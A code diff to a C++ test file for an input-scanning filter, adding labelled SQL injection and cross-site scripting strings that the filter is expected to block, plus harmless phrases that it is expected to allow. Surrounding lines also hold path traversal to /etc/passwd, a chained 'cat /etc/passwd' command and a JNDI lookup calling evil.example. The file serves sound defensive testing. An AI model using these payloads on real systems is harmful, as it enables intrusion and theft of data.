@@ -31,6 +31,17 @@ TEST_CASE("Attacks are blocked, and named", "[guardian]") {
       {"1'; WAITFOR DELAY '0:0:5' --", "sql_injection.time_delay"},
       {"<script>alert(document.cookie)</script>", "cross_site_scripting.script_element"},
       {"%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "cross_site_scripting.event_attribute"},
+      {"7'; while 2=2 begin --", "sql_injection.stacked_comment"},
+      {"(select max(id) from users)", "sql_injection.leading_subquery"},
+      {"(2)or(3)=(3)", "sql_injection.wrapped_condition"},
+      {"\\1=\\1 and", "sql_injection.escaped_numbers"},
+      {"ab'or'cd", "sql_injection.glued_condition"},
+      {"' || utl_http.request('http://a.example') || '", "sql_injection.leading_concatenation"},
+      {"scriptalert(1)/script", "cross_site_scripting.lost_brackets"},
+      {"\u00bcscript\u00bealert(1)\u00bc/script\u00be", "cross_site_scripting.lost_brackets"},
+      {"'';!--\"<a>=&{()}", "cross_site_scripting.probe"},
+      {"document /* a */ . cookie", "cross_site_scripting.spaced_cookie"},
+      {"<v:vmlframe src=\"//a.example/x\">", "cross_site_scripting.vector_frame"},
       {"../../../../etc/passwd", "file_inclusion.system_file"},
       {"x; cat /etc/passwd", "command_injection.chained_command"},
       {"${jndi:ldap://evil.example/a}", "command_injection.lookup"},
@@ -60,7 +71,10 @@ TEST_CASE("Ordinary words and T-SQL pass", "[guardian]") {
       "Can I ignore this warning in the log?", "a", "7", "2024-05-01", "usp_GetOrders", "",
       "admin@example.com", "https://example.com", "page[1]", "John O'Neil", "Contoso Ltd",
       "nightly: orders & customers", "my migration (second try)", "Please ping me; then call",
-      "What is the difference between UNION and UNION ALL?", "5 > 3 and 2 < 4");
+      "What is the difference between UNION and UNION ALL?", "5 > 3 and 2 < 4",
+      "(see the second page)", "Our site asks for a cookie.",
+      "PRINT 'done'; -- the last step of the nightly run",
+      "a script, an alert and a /scripts folder");
   CAPTURE(text);
   CHECK(Scan(text).action == Action::kAllow);
 }
